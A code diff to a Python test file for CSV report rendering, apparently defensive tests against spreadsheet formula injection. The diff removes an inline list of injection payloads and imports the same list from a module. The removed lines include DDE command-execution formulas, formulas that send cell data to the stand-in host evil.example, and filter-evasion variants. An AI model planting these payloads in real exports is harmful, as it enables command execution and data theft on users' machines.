@@ -7,26 +7,7 @@ import pytest
 
 from articles.reports import render_csv, render_csv_with_mark
 from tests.reports.made import a_citation, a_claim, a_query, a_report, a_source, a_verdict, full_of
-
-FORMULAS = [
-    "=1+1",
-    "=cmd|' /C calc'!A0",
-    '=HYPERLINK("http://evil.example?x="&A1,"click")',
-    "+1+cmd|' /C notepad'!A1",
-    "-2+3+cmd|' /C calc'!A0",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
-    '=WEBSERVICE("http://evil.example/")',
-    '=DDE("cmd","/C calc","x")',
-    "\t=1+1",
-    "\r=1+1",
-    "\n=1+1",
-    "  =1+1",
-    "＝1+1",
-    "＋1",
-    "－1",
-    "＠SUM(1)",
-]
+from tests.reports.payloads import FORMULAS
 
 
 def rows(text: str) -> list[list[str]]:
